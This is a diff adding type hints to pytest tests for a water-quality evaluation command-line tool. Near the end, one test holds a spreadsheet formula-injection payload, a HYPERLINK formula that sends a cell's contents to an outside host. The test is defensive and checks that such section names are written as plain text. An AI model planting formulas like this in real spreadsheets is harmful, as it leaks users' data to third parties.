@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+from pathlib import Path
 from types import SimpleNamespace
+from typing import NoReturn
 
 import polars as pl
 import pytest
@@ -17,7 +20,7 @@ HEADER = "section_id,section_name,unit_id,waterbody,target_class,section_level,y
 
 
 @pytest.fixture
-def measurements(tmp_path):
+def measurements(tmp_path: Path) -> Path:
     lines = [HEADER]
     for year, nh3n in ((2019, 1.6), (2020, 0.8)):  # V in 2019, III in 2020
         lines += [f"S1,甲,U1,river,III,provincial,{year},{m},{nh3n},0.1" for m in range(1, 13)]
@@ -27,11 +30,11 @@ def measurements(tmp_path):
     return path
 
 
-def listing(directory):
+def listing(directory: Path) -> list[str]:
     return sorted(p.name for p in directory.iterdir())
 
 
-def test_it_writes_sections_and_units_as_csv(tmp_path, measurements):
+def test_it_writes_sections_and_units_as_csv(tmp_path: Path, measurements: Path) -> None:
     out = tmp_path / "out.csv"
     assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
     assert listing(tmp_path) == ["in.csv", "out.csv", "out_units.csv"]
@@ -46,7 +49,7 @@ def test_it_writes_sections_and_units_as_csv(tmp_path, measurements):
     assert row["wq_improved_sections"] == "1"
 
 
-def test_it_writes_two_sheets_to_xlsx(tmp_path, measurements):
+def test_it_writes_two_sheets_to_xlsx(tmp_path: Path, measurements: Path) -> None:
     out = tmp_path / "out.xlsx"
     assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
     book = load_workbook(out, read_only=True)
@@ -55,14 +58,14 @@ def test_it_writes_two_sheets_to_xlsx(tmp_path, measurements):
     assert header[:3] == ["unit_id", "wq_sections", "wq_months_missed"]
 
 
-def test_it_keeps_list_columns_in_parquet(tmp_path, measurements):
+def test_it_keeps_list_columns_in_parquet(tmp_path: Path, measurements: Path) -> None:
     out = tmp_path / "out.parquet"
     assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
     units = pl.read_parquet(tmp_path / "out_units.parquet")
     assert units["wq_months_missed"].to_list() == [[0, 0]]
 
 
-def test_it_exits_2_and_writes_nothing_on_bad_input(tmp_path, capsys):
+def test_it_exits_2_and_writes_nothing_on_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     bad = tmp_path / "in.csv"
     bad.write_text(HEADER + "\nS1,甲,U1,river,III,provincial,2020,13,0.8,abc\n", encoding="utf-8")
     out = tmp_path / "out.csv"
@@ -76,25 +79,29 @@ def test_it_exits_2_and_writes_nothing_on_bad_input(tmp_path, capsys):
 @pytest.mark.parametrize(
     ("out", "message"), [("out.json", "unsupported format"), ("missing/out.csv", "does not exist")]
 )
-def test_it_exits_2_on_a_bad_output_path(tmp_path, measurements, capsys, out, message):
+def test_it_exits_2_on_a_bad_output_path(
+    tmp_path: Path, measurements: Path, capsys: pytest.CaptureFixture[str], out: str, message: str
+) -> None:
     assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(tmp_path / out)]) == 2
     assert message in capsys.readouterr().err
     assert listing(tmp_path) == ["in.csv"]
 
 
-def test_it_exits_2_for_a_year_without_data(tmp_path, measurements, capsys):
+def test_it_exits_2_for_a_year_without_data(
+    tmp_path: Path, measurements: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     assert main(["water", "evaluate", str(measurements), "--year", "2031", "--out", str(tmp_path / "o.csv")]) == 2
     assert "no rows for year 2031" in capsys.readouterr().err
     assert listing(tmp_path) == ["in.csv"]
 
 
-def test_it_leaves_nothing_when_a_later_table_fails(tmp_path, monkeypatch):
+def test_it_leaves_nothing_when_a_later_table_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     real = water_cmd._writer
 
-    def failing(suffix, table):
+    def failing(suffix: str, table: pl.DataFrame) -> Callable[[Path], None]:
         if "boom" in table.columns:
 
-            def fail(tmp):
+            def fail(tmp: Path) -> NoReturn:
                 raise OSError("disk full")
 
             return fail
@@ -107,7 +114,7 @@ def test_it_leaves_nothing_when_a_later_table_fails(tmp_path, monkeypatch):
     assert listing(tmp_path) == []
 
 
-def scheme(*inputs):
+def scheme(*inputs: dict[str, object]) -> SimpleNamespace:
     return SimpleNamespace(inputs=[SimpleNamespace(**i) for i in inputs])
 
 
@@ -120,7 +127,7 @@ XX_WATER = scheme(
 )
 
 
-def test_as_inputs_picks_renames_and_scales():
+def test_as_inputs_picks_renames_and_scales() -> None:
     units = pl.DataFrame(
         {
             "unit_id": ["U1"],
@@ -134,7 +141,7 @@ def test_as_inputs_picks_renames_and_scales():
     assert out.row(0) == ("U1", [2, 0], [False, True], pytest.approx(96.0))
 
 
-def test_as_inputs_scales_list_elements():
+def test_as_inputs_scales_list_elements() -> None:
     units = pl.DataFrame({"unit_id": ["U1"], "wq_months_missed": [[2, 0]]})
     out = as_inputs(units, scheme({"id": "x", "source": "water.wq_months_missed", "source_scale": 5}))
     assert out["x"].to_list() == [[10, 0]]
@@ -148,13 +155,15 @@ def test_as_inputs_scales_list_elements():
         ([{"id": "x", "source": "air.good_ratio"}], "no input with source 'water."),
     ],
 )
-def test_as_inputs_rejects_what_it_cannot_provide(inputs, message):
+def test_as_inputs_rejects_what_it_cannot_provide(inputs: list[dict[str, object]], message: str) -> None:
     units = pl.DataFrame({"unit_id": ["U1"], "wq_sections": [["甲"]]})
     with pytest.raises(UserInputError, match=message):
         as_inputs(units, scheme(*inputs))
 
 
-def test_it_writes_scheme_inputs_with_as_inputs(tmp_path, measurements, monkeypatch):
+def test_it_writes_scheme_inputs_with_as_inputs(
+    tmp_path: Path, measurements: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(kaohe, "load_scheme", lambda scheme_id: XX_WATER, raising=False)
     out = tmp_path / "inputs.csv"
     code = main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out), "--as-inputs", "x"])
@@ -165,7 +174,9 @@ def test_it_writes_scheme_inputs_with_as_inputs(tmp_path, measurements, monkeypa
     assert inputs.row(0) == ("U1", "0;0", "true;true", None)
 
 
-def test_it_exits_2_when_the_scheme_wants_a_column_we_do_not_make(tmp_path, measurements, monkeypatch, capsys):
+def test_it_exits_2_when_the_scheme_wants_a_column_we_do_not_make(
+    tmp_path: Path, measurements: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     wrong = scheme({"id": "x", "source": "water.nope"})
     monkeypatch.setattr(kaohe, "load_scheme", lambda scheme_id: wrong, raising=False)
     out = tmp_path / "inputs.xlsx"
@@ -174,7 +185,7 @@ def test_it_exits_2_when_the_scheme_wants_a_column_we_do_not_make(tmp_path, meas
     assert listing(tmp_path) == ["in.csv"]
 
 
-def test_formula_like_section_names_stay_text_in_xlsx(tmp_path):
+def test_formula_like_section_names_stay_text_in_xlsx(tmp_path: Path) -> None:
     # issue 8 §2.3: a section named "=HYPERLINK(…)" is written as text with a leading ' (kaohe.core.xlsx_text),
     # on the sections sheet and inside the units sheet's list columns.
     hostile = '=HYPERLINK("http://x?x="&A1,"click")'
